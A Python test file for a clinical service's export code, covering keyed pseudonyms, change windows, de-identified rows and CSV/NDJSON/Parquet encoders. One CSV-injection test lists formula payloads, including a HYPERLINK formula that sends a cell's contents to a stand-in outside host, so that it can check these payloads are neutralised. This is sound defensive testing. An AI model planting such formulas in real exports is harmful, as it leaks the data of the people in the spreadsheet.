"""Exports' pure core: pseudonyms, the change window, row shaping and the encoders."""

import csv
import hashlib
import hmac
import io
import re
import uuid
from datetime import UTC, date, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import orjson
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from services.exports import InvertedWindow, Pseudonyms, Shapers, columns, encoder, export_window
from services.exports.datasets import COLUMNS, Column, days_between, hours_between
from services.exports.encoders import PARQUET_ROW_GROUP

NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


def test_a_pseudonym_is_stable_and_keyed_by_the_organizations_secret() -> None:
    value = uuid.uuid4()
    a, a_again, b = Pseudonyms("secret-a"), Pseudonyms("secret-a"), Pseudonyms("secret-b")
    assert a.of("client", value) == a_again.of("client", value) == a.repeated("client", value)
    assert a.of("client", value) != b.of("client", value)
    assert a.of("client", value) != a.of("clinician", value)
    pseudonym = a.of("client", value)
    assert pseudonym is not None
    assert len(pseudonym) == 24
    assert str(value) not in pseudonym
    assert a.of("rater", "") is None
    assert a.of("submission", None) is None


@pytest.mark.parametrize("secret", ["", "short", "x" * 64, "é" * 40, "y" * 65])
def test_a_pseudonym_is_the_first_96_bits_of_hmac_sha256(secret: str) -> None:
    value = uuid.uuid4()
    mac = hmac.new(secret.encode(), f"submission:{value}".encode(), hashlib.sha256)
    p = Pseudonyms(secret)
    assert p.of("submission", value) == p.submission(str(value)) == mac.hexdigest()[:24]
    rater = hmac.new(secret.encode(), "rater:Aunt Ém".encode(), hashlib.sha256)
    assert p.of("rater", "Aunt Ém") == rater.hexdigest()[:24]


def test_the_pseudonym_cache_stays_bounded() -> None:
    p = Pseudonyms("s", cache_size=10)
    first = p.repeated("episode", "e0")
    for i in range(100):
        p.repeated("episode", f"e{i}")
    assert p.cached <= 10
    assert p.repeated("episode", "e0") == first


def test_the_window_ends_settle_seconds_before_now_by_default() -> None:
    since, until = export_window(now=NOW, since=None, until=None, settle_seconds=30)
    assert (since, until) == (None, NOW - timedelta(seconds=30))


def test_a_later_until_is_lowered_to_the_settled_watermark_an_earlier_one_kept() -> None:
    later = NOW + timedelta(hours=1)
    assert export_window(now=NOW, since=None, until=later, settle_seconds=5)[1] == NOW - timedelta(
        seconds=5
    )
    earlier = NOW - timedelta(days=1)
    assert export_window(now=NOW, since=None, until=earlier, settle_seconds=5)[1] == earlier


def test_since_after_until_is_refused() -> None:
    # The HTTP layer names the field (query.since): tests/api/test_exports_api.py.
    with pytest.raises(InvertedWindow):
        export_window(now=NOW, since=NOW, until=None, settle_seconds=1)
    # An empty window is fine: since = until.
    assert export_window(now=NOW, since=NOW, until=NOW, settle_seconds=0) == (NOW, NOW)


def test_days_and_hours_are_counted_in_utc() -> None:
    assert days_between(date(2026, 1, 1), datetime(2026, 1, 16, 1, 30, tzinfo=UTC)) == 15
    assert days_between(None, NOW) is None
    assert hours_between(NOW, NOW + timedelta(minutes=90)) == 1.5
    assert hours_between(NOW, None) is None


def stored_submission(**extra: Any) -> SimpleNamespace:
    values: dict[str, Any] = {
        "id": uuid.uuid4(),
        "episode_id": uuid.uuid4(),
        "client_id": uuid.uuid4(),
        "clinician_id": uuid.uuid4(),
        "client_external_id": "MRN-1",
        "clinician_external_id": "STAFF-1",
        "population": "adult",
        "instrument": "wai-sr",
        "instrument_version": "1",
        "session_number": 2,
        "respondent": "collateral",
        "rater": "Aunt Jo",
        "status": "voided",
        "started_on": date(2026, 1, 1),
        "event_at": datetime(2026, 1, 3, tzinfo=UTC),
        "total": 48.0,
        "mean": 4.0,
        "band": None,
        "below_cutoff": None,
        "clinical": None,
        "subscales": '{"goal": 16}',
        "answers": '{"q1": 4}',
        "scores": {"total": 48.0, "mean": 4.0, "subscales": {"goal": 16.0, "bond": 16.0}},
        "occurred_at": None,
        "created_at": datetime(2026, 1, 3, tzinfo=UTC),
        "voided_at": datetime(2026, 1, 4, tzinfo=UTC),
        "void_reason": "wrong client",
        "changed_at": datetime(2026, 1, 4, tzinfo=UTC),
    }
    values.update(extra)
    return SimpleNamespace(**values)


@pytest.mark.parametrize("dataset", ["submissions", "scores"])
def test_deidentified_rows_hold_pseudonyms_days_and_no_text(dataset: str) -> None:
    stored = stored_submission()
    shape = Shapers(Pseudonyms("s"), identified=False).for_dataset(dataset)
    names = [c.name for c in columns(dataset, identified=False)]
    rows = [dict(zip(names, row, strict=True)) for row in shape([stored])]
    text = str(rows)
    assert not re.search(r"\d{4}-\d{2}-\d{2}", text)
    for secret in ("MRN-1", "STAFF-1", "Aunt Jo", "wrong client"):
        assert secret not in text
    for value in (stored.id, stored.episode_id, stored.client_id, stored.clinician_id):
        assert str(value) not in text
    assert {r["days_since_episode_start"] for r in rows} == {2}
    assert rows[0]["rater"] == Pseudonyms("s").of("rater", "Aunt Jo")


def test_the_scores_dataset_has_a_row_for_total_mean_and_each_subscale() -> None:
    shape = Shapers(Pseudonyms("s"), identified=True).for_dataset("scores")
    names = [c.name for c in columns("scores", identified=True)]
    rows = [dict(zip(names, row, strict=True)) for row in shape([stored_submission()])]
    assert [(r["score"], r["subscale"], r["value"]) for r in rows] == [
        ("total", None, 48.0),
        ("mean", None, 4.0),
        ("subscale", "goal", 16.0),
        ("subscale", "bond", 16.0),
    ]


@pytest.mark.parametrize(("dataset", "identified"), list(COLUMNS))
def test_every_shaped_row_has_a_value_per_column(dataset: str, identified: bool) -> None:
    stored = stored_submission(
        type="alliance.low",
        severity="warning",
        resolution=None,
        subscale="",
        submission_id=None,
        rule_version="1",
        rule_params={},
        evidence={},
        message="m",
        note=None,
        updated_at=NOW,
        acknowledged_at=None,
        resolved_at=None,
    )
    shape = Shapers(Pseudonyms("s"), identified=identified).for_dataset(dataset)
    for row in shape([stored]):
        assert len(row) == len(columns(dataset, identified=identified))


COLS = (Column("name", "str"), Column("n", "int"), Column("ok", "bool"), Column("at", "timestamp"))
COLS_JSON = (*COLS, Column("data", "json"))
ROWS = [
    ("plain", 1, True, NOW, '{"a": 1}'),
    ('has "quotes", a comma\r\nand a line break', None, False, None, {"b": [1, 2]}),
]


def test_csv_is_rfc_4180_and_reads_back() -> None:
    out = encoder("csv", COLS_JSON)
    content = out.start() + out.encode(ROWS) + out.finish()
    assert content.startswith(b"name,n,ok,at,data\r\n")
    assert content.endswith(b"\r\n")
    assert b'"has ""quotes"", a comma\r\nand a line break"' in content
    back = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert back[1] == ["plain", "1", "TRUE", NOW.isoformat(), '{"a": 1}']
    assert back[2] == ['has "quotes", a comma\r\nand a line break', "", "FALSE", "", '{"b":[1,2]}']


def test_ndjson_nests_json_text_as_objects() -> None:
    out = encoder("ndjson", COLS_JSON)
    content = out.start() + out.encode(ROWS) + out.finish()
    lines = [orjson.loads(line) for line in content.splitlines()]
    assert lines[0] == {
        "name": "plain",
        "n": 1,
        "ok": True,
        "at": NOW.isoformat(),
        "data": {"a": 1},
    }
    assert lines[1]["data"] == {"b": [1, 2]}
    assert lines[1]["name"] == ROWS[1][0]


def test_parquet_is_typed() -> None:
    out = encoder("parquet", COLS_JSON)
    chunks = [out.start(), out.encode(ROWS), out.finish()]
    table = pq.read_table(io.BytesIO(b"".join(chunks)))
    assert str(table.schema.field("n").type) == "int64"
    assert str(table.schema.field("at").type) == "timestamp[us, tz=UTC]"
    rows = table.to_pylist()
    assert rows[0]["data"] == '{"a": 1}'
    assert rows[1]["data"] == '{"b":[1,2]}'
    assert rows[0]["at"] == NOW


def test_parquet_row_groups_are_written_as_rows_come_and_hold_at_most_the_bound() -> None:
    """A row group is held in memory until written: the bound is what keeps a large export's
    memory flat (issue 18: at most 64 MiB of growth at 1,000,000 rows)."""
    out = encoder("parquet", COLS)
    head = out.start()
    batch = [("x", i, True, NOW) for i in range(PARQUET_ROW_GROUP // 4)]
    written_before_finish = b"".join(out.encode(batch) for _ in range(10))
    tail = out.finish()
    meta = pq.ParquetFile(io.BytesIO(head + written_before_finish + tail)).metadata
    sizes = [meta.row_group(i).num_rows for i in range(meta.num_row_groups)]
    assert sizes == [PARQUET_ROW_GROUP, PARQUET_ROW_GROUP, PARQUET_ROW_GROUP // 2]
    # The first two groups left the encoder before the export ended.
    assert len(written_before_finish) > len(tail)


# CSV injection (OWASP): a spreadsheet runs a cell that starts with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text",
    ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+SUM(1,2)", "-2+3", "@SUM(A1)",
     "\t=1+1", "\r=1+1", "-"],
)  # fmt: skip
def test_csv_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(text: str) -> None:
    out = encoder("csv", COLS_JSON)
    content = out.start() + out.encode([(text, 1, True, None, None)]) + out.finish()
    back = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert back[1][0] == "'" + text


@given(st.text(max_size=30), st.integers(min_value=-(10**9), max_value=10**9))
def test_csv_neutralises_every_text_cell_and_leaves_numbers_alone(text: str, n: int) -> None:
    cols = (Column("name", "str"), Column("n", "int"), Column("x", "float"))
    out = encoder("csv", cols)
    content = out.start() + out.encode([(text, n, -1.5)]) + out.finish()
    (row,) = list(csv.reader(io.StringIO(content.decode(), newline="")))[1:]
    if text.startswith(FORMULA_STARTS):
        assert row[0] == "'" + text
    else:
        assert row[0] == text
    assert row[1:] == [str(n), "-1.5"]  # a negative number is a number, not a formula


_NUMBER = (
    st.none() | st.integers(-(2**63), 2**63 - 1) | st.floats(allow_nan=False, allow_infinity=False)
)
_NUMBERS = st.none() | st.dictionaries(st.text(max_size=5), _NUMBER, max_size=4)


@given(st.lists(st.tuples(_NUMBERS, st.booleans()), max_size=8))
@example([({}, True), ({}, True)])  # no subscales: every row's text "{}"
def test_a_batch_of_number_maps_is_the_map_array_of_each_rows_pairs(
    values: list[tuple[dict[str, Any] | None, bool]],
) -> None:
    """`columnar.number_maps` builds a batch's Parquet map column from flat arrays: the same
    array as the pairs `number_map` gives each row (JSON text or parsed; JSON null; integers past
    2**53, which Arrow refuses to make doubles of; a batch of empty objects only)."""
    import pyarrow as pa

    from services.exports.columnar import number_maps
    from services.exports.encoders import number_map

    batch = [orjson.dumps(v).decode() if as_text else v for v, as_text in values]
    map_type = pa.map_(pa.string(), pa.float64())
    expected = pa.array([number_map(v) for v in batch], type=map_type)
    assert number_maps(batch, map_type).equals(expected)


def test_a_batch_is_encoded_with_the_collector_paused_then_resumed_even_on_error() -> None:
    import gc

    from services.exports.batches_pg import _uncollected

    enabled: list[bool] = []

    def encode(batch: list[Any]) -> tuple[int, bytes]:
        enabled.append(gc.isenabled())
        if not batch:
            raise ValueError("nothing to encode")
        return len(batch), b"x"

    assert gc.isenabled()
    assert _uncollected(encode, [1, 2]) == (2, b"x")
    with pytest.raises(ValueError, match="nothing"):
        _uncollected(encode, [])
    assert enabled == [False, False]
    assert gc.isenabled()
